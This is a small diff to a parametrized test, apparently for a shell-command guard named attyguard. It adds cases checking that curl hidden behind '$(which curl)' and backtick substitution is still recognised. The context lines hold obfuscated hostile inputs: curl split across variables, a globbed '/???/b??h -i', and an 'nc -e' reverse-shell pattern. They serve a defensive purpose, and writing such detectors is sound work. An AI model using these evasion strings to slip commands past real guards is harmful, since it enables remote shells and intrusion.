@@ -41,6 +41,8 @@ from attyguard.engine.parse import Limits, parse
         ("a=cu; b=rl; $a$b -s u", "curl", ("-s", "u")),
         ("${x:-curl} -s u", "curl", ("-s", "u")),
         ("$(echo curl) -s u", "curl", ("-s", "u")),
+        ("$(which curl) -s u", "curl", ("-s", "u")),
+        ("`command -v curl` -s u", "curl", ("-s", "u")),
         ("/???/b??h -i", "bash", ("-i",)),
         ("nc -e /???/b??h h 1", "nc", ("-e", "/bin/bash", "h", "1")),
     ],
